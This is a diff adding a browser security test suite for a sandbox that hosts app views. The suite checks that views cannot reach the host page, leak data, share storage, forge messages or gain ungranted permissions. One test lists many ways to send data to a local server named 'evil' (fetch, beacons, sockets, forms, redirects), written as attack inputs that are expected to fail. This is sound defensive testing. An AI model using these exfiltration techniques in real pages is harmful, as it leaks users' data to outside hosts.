@@ -1,0 +1,237 @@
+import { createServer } from 'node:http';
+import { describe, expect, it } from 'vitest';
+import { writeSettings } from '../../../packages/core/src/extensions/apps/sandbox-settings.ts';
+import { hasChromium } from '../../support/chromium.ts';
+import { listening } from '../../support/listening.ts';
+import { plainView } from './plain-view.ts';
+import { type ShownOnStage, Stage } from './stage.ts';
+
+/** A server that a view must not reach, and what came to it. */
+async function outside(): Promise<{ origin: string; hits: string[] }> {
+  const hits: string[] = [];
+  const server = createServer((request, response) => {
+    if (request.url !== '/favicon.ico') hits.push(request.url ?? '');
+    response
+      .setHeader('access-control-allow-origin', '*')
+      .setHeader('content-type', 'text/html')
+      .end('<!doctype html>out');
+  });
+  return { origin: new URL(await listening(server)).origin, hits };
+}
+
+async function shown(views: Record<string, string>, options: object = {}, meta?: object) {
+  const stage = await Stage.open({ views, ...(meta && { meta }) });
+  const view = await stage.show(Object.keys(views)[0] as string, options as Record<string, unknown>);
+  await view.ready();
+  return { stage, view };
+}
+
+/** What an expression gives in the frame of a view, or the name of its error. */
+async function tried(view: ShownOnStage, expression: string): Promise<unknown> {
+  const frame = await view.frame();
+  return frame.evaluate(`(async () => ${expression})().catch((error) => error.name)`);
+}
+
+const origins = ['own', 'opaque'] as const;
+
+describe.skipIf(!hasChromium).each(origins)('a view with an origin that is %s', (origin) => {
+  it('reaches neither the page that shows it, nor its proxy, nor an opener (AH-02)', async () => {
+    const { stage, view } = await shown({ plain: plainView() }, { origin });
+    expect(await tried(view, 'top.document.title')).toBe('SecurityError');
+    expect(await tried(view, 'parent.document.title')).toBe('SecurityError');
+    expect(await tried(view, 'parent.stage')).toBe('SecurityError');
+    expect(await tried(view, 'frameElement')).toBeNull();
+    expect(await tried(view, 'opener')).toBeNull();
+    expect(await tried(view, "[open('about:blank'), open('https://a.example', '_top')]")).toEqual([null, null]);
+    await tried(view, "(top.location = 'about:blank')");
+    await tried(view, "(parent.location = 'about:blank')");
+    expect(await stage.page.evaluate('[location.origin, document.title]')).toEqual([stage.origin, 'Host']);
+    expect(await view.state()).toBe('ready');
+  });
+
+  it('can ask nobody questions in front of the page, and download nothing', async () => {
+    const { stage, view } = await shown({ plain: plainView() }, { origin });
+    const shownToPeople: string[] = [];
+    stage.page.on('dialog', () => shownToPeople.push('dialog'));
+    stage.page.on('download', () => shownToPeople.push('download'));
+    expect(await tried(view, "[confirm('x'), prompt('x'), alert('x')]")).toEqual([false, null, undefined]);
+    await tried(
+      view,
+      "Object.assign(document.createElement('a'), { href: 'data:text/plain,x', download: 'x' }).click()",
+    );
+    await tried(view, 'new Promise((resolve) => setTimeout(resolve, 50))');
+    expect(shownToPeople).toEqual([]);
+  });
+
+  it('sends nothing to an origin that it did not declare, by any way (AH-03)', async () => {
+    const { origin: evil, hits } = await outside();
+    const { stage, view } = await shown({ plain: plainView() }, { origin });
+    const ways = [
+      `fetch('${evil}/fetch')`,
+      `navigator.sendBeacon('${evil}/beacon', 'x')`,
+      `new Image().src = '${evil}/image'`,
+      `new EventSource('${evil}/events')`,
+      `new WebSocket('${evil.replace('http', 'ws')}/socket')`,
+      `new Worker('${evil}/worker')`,
+      `import('${evil}/module')`,
+      `navigator.serviceWorker.register('${evil}/service')`,
+      `document.head.append(Object.assign(document.createElement('script'), { src: '${evil}/script' }))`,
+      `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${evil}/style' }))`,
+      `document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '${evil}/prefetch' }))`,
+      `document.body.append(Object.assign(document.createElement('iframe'), { src: '${evil}/frame' }))`,
+      `document.body.append(Object.assign(document.createElement('object'), { data: '${evil}/object' }))`,
+      `document.body.append(Object.assign(document.createElement('video'), { src: '${evil}/video' }))`,
+      `document.body.append(Object.assign(document.createElement('a'), { href: '${evil}/ping-target', ping: '${evil}/ping' }))`,
+      `new FontFace('x', 'url(${evil}/font)').load()`,
+    ];
+    for (const way of ways) await tried(view, `(${way})`);
+    const frame = await view.frame();
+    // Each of these goes away from the document, if anything does: so they come last, and in frames that are made anew.
+    for (const way of [
+      `location = '${evil}/location'`,
+      `Object.assign(document.body.appendChild(document.createElement('a')), { href: '${evil}/link' }).click()`,
+      `Object.assign(document.body.appendChild(document.createElement('form')), { action: '${evil}/form', method: 'post' }).submit()`,
+      `document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=${evil}/refresh' }))`,
+    ]) {
+      await frame.evaluate(`setTimeout(() => { ${way} })`).catch(() => {});
+      const other = await stage.show('plain', { origin });
+      await other.ready();
+    }
+    expect(hits).toEqual([]);
+    // And what would be seen, if it were so: the same address, declared.
+    const { view: allowed } = await shown({ plain: plainView() }, { origin }, { csp: { connectDomains: [evil] } });
+    expect(await tried(allowed, `(await fetch('${evil}/declared')).status`)).toBe(200);
+    expect(hits).toEqual(['/declared']);
+  });
+
+  it('can not choose a policy for itself by going to another sandbox (AH-03)', async () => {
+    const { origin: evil, hits } = await outside();
+    const { stage, view } = await shown({ plain: plainView() }, { origin });
+    const frame = await view.frame();
+    const csp = { connectDomains: [evil], resourceDomains: [evil], frameDomains: [], baseUriDomains: [] };
+    const looser = writeSettings({ host: stage.origin, own: origin === 'own', relaxed: true, csp, permissions: [] });
+    const violated = frame.page().waitForEvent('console', (line) => /frame-src/.test(line.text()));
+    await frame.evaluate(`setTimeout(() => { location = '/view/${looser}' })`);
+    await violated;
+    expect(hits).toEqual([]);
+    expect(frame.url()).not.toContain(looser);
+  });
+
+  it('does not speak as its sandbox, nor past it (AH-02, AH-07)', async () => {
+    const script = `
+      for (const name of ['proxy-ready', 'report', 'resource-ready', 'other']) send({ method: 'ui/notifications/sandbox-' + name, params: { kind: 'flood', dropped: 7, html: 'x' } });
+      for (const target of [top, top.frames[0], top.frames[0].frames[0]]) {
+        target.postMessage({ jsonrpc: '2.0', id: 'forged', method: 'ui/open-link', params: { url: 'https://forged.example' } }, '*');
+      }
+      tell('said');`;
+    const stage = await Stage.open({ views: { first: plainView(), second: plainView(script) } });
+    const first = await stage.show('first', { origin, answers: { openLink: true } });
+    await first.ready();
+    const view = await stage.show('second', { origin, answers: { openLink: true } });
+    await view.ready();
+    await stage.until('log', { data: 'said' });
+    expect(await stage.noted('openLink')).toEqual([]);
+    expect(await view.run('view.reports.map((report) => report.kind)')).toEqual([
+      'refused',
+      'refused',
+      'refused',
+      'refused',
+    ]);
+    expect(await first.run('view.reports.length')).toBe(0);
+  });
+});
+
+describe.skipIf(!hasChromium)('two views', () => {
+  const keep = `
+    localStorage.setItem('mine', 'secret'); document.cookie = 'a=1'; document.cookie = 'b=2; domain=localhost';
+    const opening = indexedDB.open('mine', 1);
+    opening.onsuccess = () => caches.open('mine').then(() => tell('kept'));`;
+  const look = 'Promise.all([localStorage.length, document.cookie, indexedDB.databases(), caches.keys()])';
+
+  it('share no storage and no cookies, not even of one page (AH-05)', async () => {
+    const stage = await Stage.open({ views: { keeping: plainView(keep), looking: plainView() }, keeps: true });
+    await (await stage.show('keeping')).ready();
+    await stage.until('log', { data: 'kept' });
+    for (const name of ['looking', 'keeping']) {
+      const other = await stage.show(name);
+      await other.ready();
+      if (name === 'looking') expect(await tried(other, look)).toEqual([0, '', [], []]);
+    }
+    expect(await stage.page.evaluate('[document.cookie, localStorage.length]')).toEqual(['', 0]);
+    const frames = stage.page.frames().map((frame) => new URL(frame.url()).origin);
+    expect(new Set(frames).size).toBe(frames.length);
+  });
+
+  it('share storage where the host gives them one partition', async () => {
+    const stage = await Stage.open({ views: { keeping: plainView(keep), looking: plainView() }, keeps: true });
+    await (await stage.show('keeping', { partition: 'weather' })).ready();
+    await stage.until('log', { data: 'kept' });
+    const other = await stage.show('looking', { partition: 'weather' });
+    await other.ready();
+    expect(await tried(other, "localStorage.getItem('mine')")).toBe('secret');
+  });
+
+  it('have no storage at all without an origin, and begin all the same (AH-05)', async () => {
+    const { view } = await shown({ plain: plainView() }, { origin: 'opaque' });
+    expect(await tried(view, 'origin')).toBe('null');
+    expect(await tried(view, 'localStorage')).toBe('SecurityError');
+  });
+});
+
+describe.skipIf(!hasChromium)('the sandbox', () => {
+  it('does nothing as a page of its own, nor in a page that is not its host (AH-07)', async () => {
+    const { stage, view } = await shown({ plain: plainView() });
+    const address = (await view.proxy()).url();
+    const page = await stage.page.context().newPage();
+    await page.goto(address);
+    expect(await page.evaluate('[document.body.innerText, document.querySelectorAll("iframe").length]')).toEqual([
+      expect.stringContaining('nothing to see here'),
+      0,
+    ]);
+    const { origin: other } = await outside();
+    await page.goto(other);
+    const heard = page.evaluate(`new Promise((resolve) => {
+      const frame = document.createElement('iframe');
+      addEventListener('message', () => resolve('message'));
+      frame.onload = () => setTimeout(() => resolve('nothing'), 100);
+      frame.src = ${JSON.stringify(address)};
+      document.body.append(frame);
+    })`);
+    expect(await heard).toBe('nothing');
+  });
+
+  it('grants permissions that the view asks for and the host gives, and no others (AH-13)', async () => {
+    const meta = { permissions: { camera: {}, clipboardWrite: {} } };
+    const allowed =
+      "['camera', 'microphone', 'geolocation', 'clipboard-write'].filter((name) => document.featurePolicy.allowsFeature(name))";
+    for (const origin of origins) {
+      const { view } = await shown({ plain: plainView() }, { origin }, meta);
+      expect(await tried(view, allowed)).toEqual([]);
+      const permissions = ['camera', 'microphone'];
+      const { view: granted } = await shown({ plain: plainView() }, { origin, permissions }, meta);
+      expect(await tried(granted, allowed)).toEqual(['camera']);
+    }
+  });
+
+  it('lets texts be evaluated only where it is relaxed (AH-06)', async () => {
+    const evaluating = plainView("try { tell(new Function('return 6 * 7')()) } catch (error) { tell(error.name) }");
+    const { stage } = await shown({ evaluating });
+    await stage.until('log', { data: 'EvalError' });
+    await stage.until('report', { kind: 'policy', directive: 'script-src', blocked: 'eval' });
+    const { stage: relaxed } = await shown({ evaluating }, { relaxed: true });
+    await relaxed.until('log', { data: 42 });
+    expect(await relaxed.noted('report')).toEqual([]);
+  });
+
+  it('tells what the policy stopped, and the line that would let it (AH-06)', async () => {
+    const { stage } = await shown({
+      plain: plainView("fetch('https://api.example/x').catch(() => {}); new Image().src = 'https://cdn.example/a.png'"),
+    });
+    await stage.until('report', {
+      directive: 'connect-src',
+      advice: "csp: { connectDomains: ['https://api.example'] }",
+    });
+    await stage.until('report', { directive: 'img-src', advice: "csp: { resourceDomains: ['https://cdn.example'] }" });
+    expect(await stage.noted('problem')).toEqual([]);
+  });
+});
